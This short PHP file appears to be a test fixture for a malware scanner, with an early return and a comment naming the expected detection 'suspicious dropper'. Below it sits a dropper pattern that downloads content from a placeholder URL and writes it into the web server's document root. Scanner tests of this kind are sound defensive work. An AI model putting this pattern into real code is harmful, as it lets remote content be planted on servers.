<?php return; // want: suspicious dropper php.write.fetched
function fetch_it($url)
{
	$c = curl_init($url);
	curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
	return curl_exec($c);
}
$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/new.html', 'w');
fwrite($h, fetch_it('https://example.net/raw/1'));
